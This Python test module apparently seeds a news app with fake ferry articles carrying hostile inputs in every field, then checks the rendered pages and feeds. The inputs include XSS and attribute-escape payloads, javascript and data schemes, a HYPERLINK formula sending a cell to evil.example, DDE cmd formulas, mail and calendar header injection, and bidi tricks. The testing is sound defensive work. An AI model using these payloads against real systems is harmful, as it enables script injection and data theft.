"""What somebody would write who wants a page of ours to do his bidding, and how to see whether it did."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from icalendar import Calendar
from lxml import etree  # type: ignore[import-untyped]
from playwright.sync_api import Page

__all__ = ["FORMULA", "PAYLOADS", "SHOWN", "amiss_in", "amiss_in_bytes", "articles"]

SHOWN = "<script>window.pwned=1</script>"
"""A payload that must be seen as text on the pages that show it, so that a corpus that reached no page is noticed."""

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'

PAYLOADS = (
    # elements
    SHOWN,
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data='data:text/html,<script>window.pwned=1</script>'></object>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action='https://evil.example/'><button>Sign in</button></form>",
    "<style>body{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>",
    "<details open ontoggle=window.pwned=1>",
    # out of an element that holds text
    "</title><script>window.pwned=1</script>",
    "</textarea></style></script><script>window.pwned=1</script>",
    "--><script>window.pwned=1</script><!--",
    "]]><script>window.pwned=1</script><![CDATA[",
    '</script>{"@context": "https://evil.example"}<script>window.pwned=1</script>',
    # out of an attribute
    '" autofocus onfocus=window.pwned=1 x="',
    "' onmouseover=window.pwned=1 x='",
    "` onpointerenter=window.pwned=1 x=`",
    "\"><a href='javascript:window.pwned=1'>more</a>",
    # schemes
    "javascript:window.pwned=1//",
    "java\tscript:window.pwned=1",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "[more](javascript:window.pwned=1)",
    # what libraries of ours would read as theirs
    "<b hx-get=/accounts/ hx-trigger=load hx-on::load=window.pwned=1 data-hx-on:load=window.pwned=1>x</b>",
    "{{ request.user }}{% debug %}{% load static %}",
    "${window.pwned=1}{{constructor.constructor('window.pwned=1')()}}",
    # cells of a table
    FORMULA,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    # lines of a mail, of a calendar, of an answer
    "x\r\nBcc: all@example.org\r\nSet-Cookie: session=1",
    "x\nEND:VEVENT\nBEGIN:VALARM",
    # characters that turn the writing about, or do not show
    "\u202egnp.exe\u2066 over\u200b\ufeff\u0085",
    "a\u0301" * 40 + "Z\u0489\u0489",
    # one word without an end
    "W" * 3_000,
)


def articles() -> list[str]:
    """Return articles as lines of JSON: each payload as title, outlet, byline, address and in words that are quoted."""
    lines = []
    for number, payload in enumerate(PAYLOADS):
        text = (
            f"PORT VALE, March 3 (Reuters) - Harbour minister Ilse Brandt {payload} said on Tuesday: “The night ferry"
            f" {payload} will sail again by 1 June 2026, and the board agreed.”\n\n"
            f"“We asked twice,” answered Lena Moor, who chairs the {payload} board, on the quay in Port Vale."
            f" The harbour board promised to publish the {payload} timetable by 20 March 2026.\n\n"
            f"An official who asked not to be named as talks {payload} are private denied that the ferry is sold."
        )
        lines.append(
            json.dumps(
                {
                    "id": f"hostile-{number} {payload[:60]}",
                    "url": payload if ":" in payload[:12] else f"https://news.example/{number}?q={payload[:200]}",
                    "outlet": f"Pelican {payload}",
                    "title": f"Night ferry of Port Vale to sail again {payload}",
                    "byline": f"By {payload}",
                    "published": f"2026-03-0{1 + number % 9}",
                    "language": "en",
                    "text": text,
                }
            )
        )
    return lines


BROKEN_OUT = """() => {
  const found = [];
  const say = (what, node) => found.push(what + ': ' + node.outerHTML.slice(0, 200));
  const FOREIGN = ['base', 'iframe', 'object', 'embed', 'applet', 'frame', 'math', 'mglyph', 'animate'];
  const POINTS = ['href', 'src', 'action', 'formaction', 'data', 'hx-get', 'hx-post', 'xlink:href'];
  const points = (node, name, value) => {
    let to;
    try { to = new URL(value, document.baseURI) } catch { return say('an address that is none', node) }
    if (name === 'src' && to.protocol === 'data:' && node.localName === 'img') return;
    if (!['http:', 'https:', 'mailto:', 'webcal:'].includes(to.protocol)) say('a scheme', node);
    const brings = name !== 'href' || /style|script|import|load/.test(node.rel || '') && node.localName === 'link';
    if (brings && to.origin !== location.origin) say('from elsewhere', node);
  };
  if (window.pwned) found.push('something ran');
  for (const node of document.querySelectorAll('*')) {
    for (const { name, value } of node.attributes) {
      if (/^on/i.test(name) || /^(data-)?hx-on/i.test(name)) say('a handler', node);
      if (POINTS.includes(name)) points(node, name, value);
    }
    if (FOREIGN.includes(node.localName)) say('an element', node);
    if (node.localName === 'style') say('a style sheet of its own', node);
    if (node.localName === 'meta' && node.httpEquiv) say('a refresh', node);
    if (node.localName !== 'script' || node.src) continue;
    if (!/json/.test(node.type)) say('a script of its own', node);
    else try { JSON.parse(node.textContent) } catch { say('no JSON', node) }
  }
  return found;
}"""

TURNED_ABOUT = """() => {
  const found = [];
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  for (let text; (text = walker.nextNode());) {
    if (!/[\\u202a-\\u202e\\u2066-\\u2069]/.test(text.data)) continue;
    let node = text.parentElement, held = false;
    while (node && !held) {
      const { unicodeBidi, display } = getComputedStyle(node);
      held = ['option', 'textarea', 'script', 'title'].includes(node.localName);
      // A block ends what was turned about, so it holds what stands in it alone, as a paragraph of an article does.
      if (display !== 'inline') {
        held ||= node.closest('.body') !== null || node.textContent.trim() === text.data.trim();
        break;
      }
      held ||= /isolate|plaintext/.test(unicodeBidi);
      node = node.parentElement;
    }
    if (!held) found.push((text.parentElement.outerHTML).slice(0, 200));
  }
  return found;
}"""


def amiss_in(page: Page) -> list[str]:
    """Return what broke out of its element on an open page, what turned the words beside it about, and overflow."""
    found: list[str] = page.evaluate(BROKEN_OUT)
    found += [f"turned about: {html}" for html in page.evaluate(TURNED_ABOUT)]
    over = page.evaluate("document.scrollingElement.scrollWidth - document.documentElement.clientWidth")
    return found + ([f"wider than the screen by {over} px"] if over > 1 else [])


def amiss_in_bytes(form: str, content: bytes) -> list[str]:
    """Return what is wrong with a feed or file: XML that is not well-formed, JSON that does not parse, and the like."""
    try:
        if form in {"atom", "svg"}:
            tree = etree.fromstring(content, etree.XMLParser(resolve_entities=False, no_network=True))
            return [f"an element: {node.tag}" for node in tree.iter("{*}script", "{*}foreignObject", "{*}iframe")]
        if form == "json":
            json.loads(content)
        elif form == "ics":
            events = Calendar.from_ical(content.decode()).walk()
            return [f"a component of theirs: {event.name}" for event in events if event.name == "VALARM"]
        elif form == "csv":
            rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True)
            return [f"a formula: {cell[:80]}" for row in rows for cell in row if _calculates(cell)]
    except (ValueError, etree.XMLSyntaxError, csv.Error) as error:
        return [f"no {form}: {error}"]
    return []


def _calculates(cell: str) -> bool:
    # OWASP's list of what makes a spreadsheet take a cell for a formula; a number may have its sign.
    return cell[:1] in set("=+-@\t\r") and not cell.lstrip("+-").replace(".", "", 1).isdigit()


def write(folder: Path) -> Path:
    """Write the articles as a file that the flow collects; return its path."""
    file = folder / "hostile.jsonl"
    file.write_text("\n".join(articles()) + "\n", encoding="utf-8")
    return file
